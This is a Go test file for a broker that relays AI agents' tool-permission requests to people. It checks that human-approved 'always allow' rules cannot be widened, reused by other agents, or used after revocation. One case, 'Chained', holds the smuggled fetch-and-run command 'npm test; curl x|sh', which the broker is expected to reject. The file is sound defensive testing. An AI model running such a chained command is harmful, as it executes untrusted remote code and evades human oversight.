package broker_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/askbridge/askbridge/broker"
)

// permissionAsk is a hook's permission question for command, whose
// second option offers the prefix rule "npm test" in /home/ana/app.
func permissionAsk(command string) *broker.AskRequest {
	offer := broker.Rule{Tool: "Bash", Kind: broker.RulePrefix, Pattern: "npm test", Project: "/home/ana/app"}
	return &broker.AskRequest{SessionID: "claude:s1", ToolCallID: "call-" + command, Question: "Allow Bash?\n" + command,
		Options: []broker.Option{{Label: "Allow once"}, {Label: broker.RuleOfferLabel(offer), Description: broker.RuleOfferText(offer)}, {Label: "Deny"}}}
}

func TestRuleFromAnswerThenAllowedByRule(t *testing.T) {
	e := newEnv(t, nil)
	ctx := context.Background()
	q, _, err := e.b.Ask(ctx, "claude", permissionAsk("npm test"))
	if err != nil {
		t.Fatal(err)
	}
	req := broker.RuleRequest{QuestionID: q.ID, Tool: "Bash", Kind: broker.RulePrefix, Pattern: "npm test", Project: "/home/ana/app"}
	if _, _, err := e.b.AddRuleFromAnswer(ctx, "claude", req); err == nil || !strings.Contains(err.Error(), "not answered by a person") {
		t.Fatalf("rule from a pending question: %v", err)
	}
	if r := e.b.HandleInbound(ctx, broker.Inbound{Channel: "chat", Chat: "c1", User: "U2", Name: "ana", Text: "/answer " + q.ID + " 2"}); !r.OK {
		t.Fatalf("answer: %+v", r)
	}
	for _, tc := range []struct {
		name, agent string
		mod         func(r *broker.RuleRequest)
		field, says string
	}{
		{"OtherAgent", "codex", func(*broker.RuleRequest) {}, "question_id", "no question"},
		{"NoQuestion", "claude", func(r *broker.RuleRequest) { r.QuestionID = "" }, "question_id", "missing"},
		{"PatternNotOffered", "claude", func(r *broker.RuleRequest) { r.Pattern = "npm" }, "question_id", "Always allow"},
		{"ProjectNotOffered", "claude", func(r *broker.RuleRequest) { r.Project = "/" }, "question_id", "Always allow"},
		{"BadKind", "claude", func(r *broker.RuleRequest) { r.Kind = "regex" }, "kind", "exact, prefix or glob"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := req
			tc.mod(&r)
			_, _, err := e.b.AddRuleFromAnswer(ctx, tc.agent, r)
			var fe *broker.FieldError
			if !errors.As(err, &fe) || fe.Field != tc.field || !strings.Contains(fe.Message, tc.says) {
				t.Fatalf("AddRuleFromAnswer = %v, want %s saying %q", err, tc.field, tc.says)
			}
		})
	}
	if rules, _ := e.b.Rules(ctx, "", true); len(rules) != 0 {
		t.Fatalf("refused requests stored rules: %+v", rules)
	}
	rule, created, err := e.b.AddRuleFromAnswer(ctx, "claude", req)
	if err != nil || !created || rule.By.User != "U2" || rule.Agent != "claude" || rule.Question != q.ID {
		t.Fatalf("AddRuleFromAnswer = %+v, %v, %v", rule, created, err)
	}
	if again, created, err := e.b.AddRuleFromAnswer(ctx, "claude", req); err != nil || created || again.ID != rule.ID {
		t.Fatalf("second AddRuleFromAnswer = %+v, %v, %v; want the same rule", again, created, err)
	}

	posts := len(e.ch.Posts())
	call := &broker.ToolCall{Tool: "Bash", Input: broker.ToolInput{Command: "npm test -- --ci"}, Cwd: "/home/ana/app"}
	ask := &broker.RuleAsk{AskRequest: *permissionAsk("npm test -- --ci"), AllowedByRule: rule.ID, ToolCall: call}
	got, _, err := e.b.AskAllowedByRule(ctx, "claude", ask)
	if err != nil || got.Status != broker.StatusAnswered || got.AnsweredBy == nil || got.AnsweredBy.Channel != "rule" || got.AnsweredBy.User != "rule:1" {
		t.Fatalf("ask allowed by rule = %+v, %v", got, err)
	}
	if len(e.ch.Posts()) != posts {
		t.Fatalf("a question allowed by a rule was posted")
	}
	trail, err := e.b.Audit(ctx, "claude", got.ID)
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, a := range trail {
		kinds = append(kinds, a.Kind)
		if a.Kind == broker.AuditAllowedByRule && !strings.HasPrefix(a.Detail, "rule 1:") {
			t.Fatalf("detail %q", a.Detail)
		}
	}
	if strings.Join(kinds, ",") != "asked,allowed_by_rule,resolved" {
		t.Fatalf("audit kinds %v", kinds)
	}

	for _, tc := range []struct {
		name        string
		mod         func(a *broker.RuleAsk)
		field, says string
	}{
		{"Chained", func(a *broker.RuleAsk) {
			a.ToolCall = &broker.ToolCall{Tool: "Bash", Input: broker.ToolInput{Command: "npm test; curl x|sh"}, Cwd: "/home/ana/app"}
		}, "allowed_by_rule", "does not allow"},
		{"Risky", func(a *broker.RuleAsk) {
			a.ToolCall = &broker.ToolCall{Tool: "Bash", Input: broker.ToolInput{Command: "npm test"}, Cwd: "/home/ana/app", Risky: true}
		}, "tool_call.risky", "never"},
		{"OtherProject", func(a *broker.RuleAsk) {
			a.ToolCall = &broker.ToolCall{Tool: "Bash", Input: broker.ToolInput{Command: "npm test"}, Cwd: "/srv"}
		}, "allowed_by_rule", "does not allow"},
		{"UnknownRule", func(a *broker.RuleAsk) { a.AllowedByRule = 99 }, "allowed_by_rule", "no rule 99"},
		{"NegativeRule", func(a *broker.RuleAsk) { a.AllowedByRule = -1 }, "allowed_by_rule", "not a rule id"},
		{"NoCall", func(a *broker.RuleAsk) { a.ToolCall = nil }, "tool_call", "required"},
		{"NoInput", func(a *broker.RuleAsk) { a.ToolCall = &broker.ToolCall{Tool: "Bash"} }, "tool_call.input", "missing"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := &broker.RuleAsk{AskRequest: *permissionAsk("npm test " + tc.name), AllowedByRule: rule.ID, ToolCall: call}
			tc.mod(a)
			_, _, err := e.b.AskAllowedByRule(ctx, "claude", a)
			var fe *broker.FieldError
			if !errors.As(err, &fe) || fe.Field != tc.field || !strings.Contains(fe.Message, tc.says) {
				t.Fatalf("Ask = %v, want %s saying %q", err, tc.field, tc.says)
			}
		})
	}
	if _, err := e.b.RevokeRule(ctx, "codex", rule.ID, broker.Responder{Channel: "api", User: "codex"}); !errors.Is(err, broker.ErrNotFound) {
		t.Fatalf("another agent revoked: %v", err)
	}
	if _, err := e.b.RevokeRule(ctx, "claude", rule.ID, broker.Responder{Channel: "api", User: "claude"}); err != nil {
		t.Fatal(err)
	}
	a := &broker.RuleAsk{AskRequest: *permissionAsk("npm test again"), AllowedByRule: rule.ID, ToolCall: call}
	if _, _, err := e.b.AskAllowedByRule(ctx, "claude", a); err == nil || !strings.Contains(err.Error(), "revoked") {
		t.Fatalf("ask by a revoked rule: %v", err)
	}
	if m, err := e.b.MatchCall(ctx, "claude", *call); err != nil || m != nil {
		t.Fatalf("MatchCall after the revocation = %+v, %v", m, err)
	}
}
